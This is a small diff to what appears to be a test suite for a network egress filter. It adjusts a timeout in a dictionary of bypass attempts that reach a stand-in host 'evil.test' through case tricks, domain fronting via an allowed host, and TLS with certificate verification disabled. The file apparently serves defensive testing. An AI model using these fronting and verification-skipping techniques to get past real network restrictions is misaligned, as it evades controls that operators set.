@@ -29,7 +29,7 @@ ATTACKS = {
     "upper case": CURL.format(["http://EVIL.TEST/"]),
     "fronting with TLS": "print(fetch('allowed.test', 'evil.test'))",
     "TLS without a name": "c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE\n"
-    "s = c.wrap_socket(socket.create_connection(('allowed.test', 443), 3)); s.sendall("
+    "s = c.wrap_socket(socket.create_connection(('allowed.test', 443), 20)); s.sendall("
     + GET.format("evil.test")
     + "); print(s.recv(999))",
     "fronting with HTTP": f"print(say('allowed.test', {GET.format('evil.test')}))",
